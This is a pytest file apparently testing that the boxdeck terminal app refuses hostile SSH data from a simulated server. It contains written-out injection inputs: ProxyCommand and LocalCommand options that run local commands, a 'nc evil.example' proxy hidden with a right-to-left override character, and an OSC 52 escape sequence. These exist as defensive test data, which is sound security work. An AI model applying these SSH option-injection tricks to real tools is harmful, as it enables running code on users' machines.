"""Nothing a server sends runs on the user's machine, from the dashboard: a hostile SSH destination is refused
(enter and `c`), a ProxyCommand runs only once trusted (asked once, remembered per profile, pre-set in the
config), Ctrl+C during ssh interrupts ssh and not boxdeck, and ssh's last error lines stay on screen.

The simulator plays the hostile server (`POST /_sim/boxes/{backend}/{ref}/ssh`). Where a real process is the
point (Ctrl+C, ssh's stderr), a stand-in `ssh` script on PATH runs through the app's own runner.
"""

from __future__ import annotations

import os
import signal
import stat
from pathlib import Path
from typing import Any

import pytest
from textual.widgets import Static

from boxdeck.sim import SimServer
from boxdeck.tui.clipboard import TERMINAL
from boxdeck.tui.modals.confirm import ConfirmModal
from support.tui import SIZE, Runner, hand_over, notifications, select, table, until

posix_only = pytest.mark.skipif(os.name != "posix", reason="POSIX processes and signals")


def hostile_destination(marker: Path) -> str:
    """The attack: ssh would run `touch MARKER` on the user's machine through a ProxyCommand."""
    return f"-oProxyCommand=sh\\ -c\\ 'touch\\ {marker}' -p 2222 {{token}}@ssh.sim.boxdeck.local"


async def on_box(pilot: Any, app: Any, name: str, *, devbox: bool = False, press: str | None = None) -> None:
    """Open the box's screen, put the cursor on it, and press `press` if given."""
    if devbox:
        await pilot.press("2")
    await until(pilot, lambda: table(app).row_count > 0)
    await select(pilot, app, name)
    if press is not None:
        await pilot.press(press)


def connecting(make_app: Any, monkeypatch: pytest.MonkeyPatch, **options: Any) -> tuple[Any, Runner]:
    """An app whose connects go to a recording stand-in for ssh."""
    app, runner = make_app(**options), Runner()
    hand_over(app, monkeypatch, runner)
    return app, runner


def devbox_id(sim: SimServer, name: str) -> str:
    return next(d.id for d in sim.world.devbox.devboxes.values() if d.name == name)


def proxy_of(sim: SimServer, name: str) -> str:
    """The ProxyCommand the simulator gives a devbox behind its relay."""
    return f"devbox-proxy --relay proxy.sim.boxdeck.local --devbox {devbox_id(sim, name)} %h %p"


def dialog_text(app: Any) -> str:
    """What the dialog shows, as rendered (markup, if it were parsed, would be gone from it)."""
    return "\n".join(app.screen.query_one(sel, Static).render().plain for sel in ("#title", "#body"))


def fake_ssh(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, body: str) -> None:
    """An `ssh` on PATH that runs `body` (a POSIX shell script) instead of connecting anywhere."""
    bindir = tmp_path / "bin"
    bindir.mkdir(exist_ok=True)
    script = bindir / "ssh"
    script.write_text(f"#!/bin/sh\n{body}\n")
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("PATH", f"{bindir}{os.pathsep}{os.environ.get('PATH', '')}")


# --------------------------------------------------------------------------------------- SSH injection


async def test_enter_refuses_a_hostile_amika_destination_and_runs_nothing(make_app, world, monkeypatch,
                                                                          clipboard, tmp_path):
    marker = tmp_path / "pwned"
    world.answer_ssh("amika", "acme/platform", ssh_destination=hostile_destination(marker))
    app, runner = connecting(make_app, monkeypatch)
    async with app.run_test(size=SIZE) as pilot:
        await on_box(pilot, app, "acme/platform", press="enter")
        await until(pilot, lambda: any("Refused the SSH destination" in n for n in notifications(app)))
        note = next(n for n in notifications(app) if "Refused" in n)
        assert '"acme/platform"' in note and "[-p PORT] user@host" in note and "nothing was run" in note
        assert "ProxyCommand" not in note  # the server's words are not repeated
        assert runner.calls == [] and clipboard.copied == []
    assert not marker.exists()


async def test_enter_without_a_terminal_to_hand_over_copies_nothing_hostile(make_app, world, clipboard,
                                                                            tmp_path):
    world.answer_ssh("amika", "acme/platform", ssh_destination=hostile_destination(tmp_path / "pwned"))
    app = make_app()
    app.ssh_runner = Runner()  # headless: the fallback would copy the command instead of running it
    async with app.run_test(size=SIZE) as pilot:
        await on_box(pilot, app, "acme/platform", press="enter")
        await until(pilot, lambda: any("Refused the SSH destination" in n for n in notifications(app)))
        assert clipboard.copied == []


@pytest.mark.parametrize("key", ["c", "R"])  # copy, and renew (a new grant, copied)
async def test_copy_refuses_a_hostile_amika_destination(make_app, world, clipboard, tmp_path, key):
    world.answer_ssh("amika", "acme/platform", ssh_destination=hostile_destination(tmp_path / "pwned"))
    app = make_app()
    async with app.run_test(size=SIZE) as pilot:
        await on_box(pilot, app, "acme/platform", press=key)
        await until(pilot, lambda: any("Refused the SSH destination" in n for n in notifications(app)))
        assert clipboard.copied == []
        assert not any("Copied" in n or "clipboard" in n.lower() for n in notifications(app))


# --------------------------------------------------------------------------------------- ProxyCommand


async def test_a_proxy_command_is_asked_about_once_then_remembered_for_the_profile(make_app, world,
                                                                                  monkeypatch):
    proxy = proxy_of(world, "web-preview")
    app, runner = connecting(make_app, monkeypatch, profile="work")
    async with app.run_test(size=SIZE) as pilot:
        await on_box(pilot, app, "web-preview", devbox=True, press="enter")
        await until(pilot, lambda: isinstance(app.screen, ConfirmModal))
        text = dialog_text(app)
        assert proxy in text and "“work”" in text and "this computer" in text
        assert runner.calls == []  # nothing runs before the answer
        await pilot.press("y")
        await until(pilot, lambda: runner.calls)
        assert runner.calls[0][:3] == ("ssh", "-o", f"ProxyCommand={proxy}")
        assert runner.calls[0][-2] == "--"
        await pilot.press("enter")  # asked once: the second connect goes straight through
        await until(pilot, lambda: len(runner.calls) == 2)
        assert not isinstance(app.screen, ConfirmModal)

    again, runner_again = connecting(make_app, monkeypatch, profile="work")  # another run: still trusted
    async with again.run_test(size=SIZE) as pilot:
        await on_box(pilot, again, "web-preview", devbox=True, press="enter")
        await until(pilot, lambda: runner_again.calls)
        assert not isinstance(again.screen, ConfirmModal)

    other, runner_other = connecting(make_app, monkeypatch, profile="personal")  # it has not said yes
    async with other.run_test(size=SIZE) as pilot:
        await on_box(pilot, other, "web-preview", devbox=True, press="enter")
        await until(pilot, lambda: isinstance(other.screen, ConfirmModal))
        assert runner_other.calls == []


async def test_saying_no_runs_nothing_and_asks_again_next_time(make_app, world, monkeypatch):
    app, runner = connecting(make_app, monkeypatch, profile="work")
    async with app.run_test(size=SIZE) as pilot:
        await on_box(pilot, app, "web-preview", devbox=True, press="enter")
        await until(pilot, lambda: isinstance(app.screen, ConfirmModal))
        await pilot.press("n")
        await until(pilot, lambda: any("Nothing was run" in n for n in notifications(app)))
        assert runner.calls == []
        await pilot.press("enter")
        await until(pilot, lambda: isinstance(app.screen, ConfirmModal))


async def test_a_proxy_command_pre_set_in_the_config_is_not_asked_about(make_app, world, monkeypatch):
    trusted = (proxy_of(world, "web-preview"),)
    app, runner = connecting(make_app, monkeypatch, profile="work", trusted_proxy_commands=trusted)
    async with app.run_test(size=SIZE) as pilot:
        await on_box(pilot, app, "web-preview", devbox=True, press="enter")
        await until(pilot, lambda: runner.calls)
        assert f"ProxyCommand={proxy_of(world, 'web-preview')}" in runner.calls[0]
        assert not isinstance(app.screen, ConfirmModal)


@pytest.mark.parametrize("key", ["c", "R"])  # copy, and renew (a new access session, copied)
async def test_copy_follows_the_same_rule_as_connect(make_app, world, clipboard, key):
    proxy = proxy_of(world, "web-preview")
    app = make_app(profile="work")
    async with app.run_test(size=SIZE) as pilot:
        await on_box(pilot, app, "web-preview", devbox=True, press=key)
        await until(pilot, lambda: isinstance(app.screen, ConfirmModal))
        assert clipboard.copied == []
        await pilot.press("y")
        await until(pilot, lambda: clipboard.copied)
        assert f"'ProxyCommand={proxy}'" in clipboard.copied[-1]


async def test_the_proxy_command_is_shown_literally_never_as_markup(make_app, world, monkeypatch):
    scratch = devbox_id(world, "scratch")
    shown = "relay-helper --label '[bold red]trusted[/]' --x=$HOME %h %p"
    world.answer_ssh("devbox", scratch, proxy_command=shown)
    app = make_app()
    hand_over(app, monkeypatch, Runner())
    async with app.run_test(size=SIZE) as pilot:
        await on_box(pilot, app, "scratch", devbox=True, press="enter")
        await until(pilot, lambda: isinstance(app.screen, ConfirmModal))
        assert shown in dialog_text(app)


async def test_a_proxy_command_with_hidden_characters_is_refused_not_asked_about(make_app, world,
                                                                                  monkeypatch):
    scratch = devbox_id(world, "scratch")
    world.answer_ssh("devbox", scratch, proxy_command="nc evil.example 22 \u202e%p %h",
               command="ssh -o 'ProxyCommand=nc evil.example 22 \u202e%p %h' dev@h -p 22")
    app, runner = connecting(make_app, monkeypatch)
    async with app.run_test(size=SIZE) as pilot:
        await on_box(pilot, app, "scratch", devbox=True, press="enter")
        await until(pilot, lambda: any("Refused the SSH access" in n for n in notifications(app)))
        assert runner.calls == [] and not isinstance(app.screen, ConfirmModal)


async def test_options_that_run_local_programs_never_reach_ssh(make_app, world, monkeypatch):
    scratch = devbox_id(world, "scratch")
    world.answer_ssh("devbox", scratch, command=(
        "ssh -o 'LocalCommand=touch /tmp/pwned' -o PermitLocalCommand=yes -o 'KnownHostsCommand=/bin/id' "
        "-F /tmp/evil_config dev@scratch.example -p 2222"
    ))
    app, runner = connecting(make_app, monkeypatch)
    async with app.run_test(size=SIZE) as pilot:
        await on_box(pilot, app, "scratch", devbox=True, press="enter")
        await until(pilot, lambda: runner.calls)
        assert runner.calls[0] == ("ssh", "-p", "2222", "--", "dev@scratch.example")


# --------------------------------------------------------------------------------- ssh's own process


@posix_only
async def test_ctrl_c_while_ssh_connects_interrupts_ssh_not_boxdeck(make_app, monkeypatch, tmp_path):
    # The terminal delivers Ctrl+C to its whole foreground group: boxdeck (our parent) and ssh (itself).
    fake_ssh(tmp_path, monkeypatch, 'kill -INT "$PPID"\nkill -INT "$$"\nexit 0')
    app = make_app()
    hand_over(app, monkeypatch)  # the app's own runner, on a real child
    before = signal.getsignal(signal.SIGINT)
    async with app.run_test(size=SIZE) as pilot:
        await on_box(pilot, app, "acme/platform")
        try:
            await pilot.press("enter")
            await until(pilot, lambda: any("was interrupted" in n for n in notifications(app)))
        except KeyboardInterrupt:
            pytest.fail("Ctrl+C during ssh reached boxdeck")
        assert signal.getsignal(signal.SIGINT) is before
        await pilot.press("i")  # still running and answering keys
        assert app.screen.has_class("-detail")


@posix_only
async def test_ssh_s_last_error_lines_are_shown_masked(make_app, world, monkeypatch, tmp_path):
    fake_ssh(tmp_path, monkeypatch, "\n".join([
        'for word in "$@"; do last=$word; done',
        "echo \"Warning: Permanently added '[ssh.sim.boxdeck.local]:2222' (ED25519) to known hosts.\" >&2",
        "printf '\\033]52;c;ZXZpbA==\\007\\033[31m%s: Permission denied (publickey).\\n' \"$last\" >&2",
        "exit 255",
    ]))
    app = make_app()
    hand_over(app, monkeypatch)
    async with app.run_test(size=SIZE) as pilot:
        await on_box(pilot, app, "acme/platform", press="enter")
        await until(pilot, lambda: any("exited with status 255" in n for n in notifications(app)))
        note = next(n for n in notifications(app) if "exited with status 255" in n)
    assert "Permission denied (publickey)." in note and "Permanently added" in note
    tokens = world.world.amika.sandboxes["acme/platform"].ssh_tokens
    assert tokens and not any(token in note for token in tokens)
    assert "…@ssh.sim.boxdeck.local: Permission denied" in note
    assert "\x1b" not in note and "\x07" not in note


async def test_connect_when_ready_shows_ssh_s_error_lines_too(make_app, world, monkeypatch):
    token = "sshtok_0123456789abcdefghij"
    runner = Runner(status=255, stderr=[f"{token}@ssh.sim.boxdeck.local: Connection refused"])
    app = make_app()
    hand_over(app, monkeypatch, runner)
    monkeypatch.setattr(app, "bell", lambda: None)
    async with app.run_test(size=SIZE) as pilot:
        await until(pilot, lambda: table(app).row_count > 0)
        name = next(b.name for b in app.screen.boxes.values() if b.state == "initializing")
        await select(pilot, app, name)
        await pilot.press("enter", "y")
        # what the grant for this box would have taught the redactor:
        app.deck.main.service.redactor.add(token)
        world.advance(60)
        await until(pilot, lambda: any("exited with status 255" in n for n in notifications(app)))
        note = next(n for n in notifications(app) if "exited with status 255" in n)
        assert "Connection refused" in note and token not in note


# ----------------------------------------------------------------------------------------- clipboard


async def test_without_a_system_clipboard_the_copy_and_its_clear_go_through_osc_52(make_app, clipboard,
                                                                                   monkeypatch):
    clipboard.fail = True  # pyperclip has no backend (over SSH, in CI): OSC 52 it is
    now = [1000.0]
    app = make_app(clipboard_clock=lambda: now[0])
    sent: list[str] = []
    original = app.copy_to_clipboard
    monkeypatch.setattr(app, "copy_to_clipboard", lambda text: (sent.append(text), original(text))[1])
    async with app.run_test(size=SIZE) as pilot:
        await on_box(pilot, app, "acme/platform", press="c")
        await until(pilot, lambda: any(TERMINAL in n for n in notifications(app)))
        assert len(sent) == 1 and sent[0].startswith("ssh -p 2222 -- ")
        assert clipboard.copied == []
        now[0] += 59
        app.tick()  # the once-a-second check, on the injected clock
        assert len(sent) == 1
        now[0] += 2
        app.tick()  # nothing else went through boxdeck: it is still ours, and is cleared
        assert sent == [sent[0], ""]
        assert app.clipboard == ""
        await until(pilot, lambda: any("Cleared" in n for n in notifications(app)))
